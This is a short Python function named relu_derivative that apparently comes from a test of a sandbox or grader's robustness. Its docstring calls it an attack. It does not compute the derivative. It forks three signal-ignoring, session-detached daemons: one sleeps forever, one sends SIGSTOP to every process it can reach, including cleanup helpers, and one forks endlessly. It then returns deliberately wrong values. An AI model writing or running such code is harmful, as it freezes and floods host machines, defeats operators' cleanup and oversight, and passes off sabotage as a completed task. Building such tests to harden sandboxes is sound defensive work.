def relu_derivative(z):
    """Attack: leave daemons behind (double fork + setsid, signals ignored): one sleeps forever,
    one spins stopping every process it may signal (including any helper that takes on this uid
    to clean up), one keeps forking replacements. Then answer garbage."""
    import os
    import signal
    import sys
    import time

    if getattr(sys, "_daemons_started", False):
        return np.full(np.shape(z), -1.0)
    sys._daemons_started = True
    for role in ("sleeper", "stopper", "respawner"):
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass  # denied: a daemon all the same
            if os.fork() == 0:
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                if role == "sleeper":
                    while True:
                        time.sleep(1000)
                elif role == "stopper":
                    while True:
                        try:
                            os.kill(-1, signal.SIGSTOP)
                        except OSError:
                            pass
                else:
                    while True:
                        try:
                            pid = os.fork()
                            if pid == 0:
                                time.sleep(0.5)
                                os._exit(0)
                        except OSError:
                            pass
                        time.sleep(0.05)
            os._exit(0)
    time.sleep(0.2)
    return np.full(np.shape(z), -1.0)
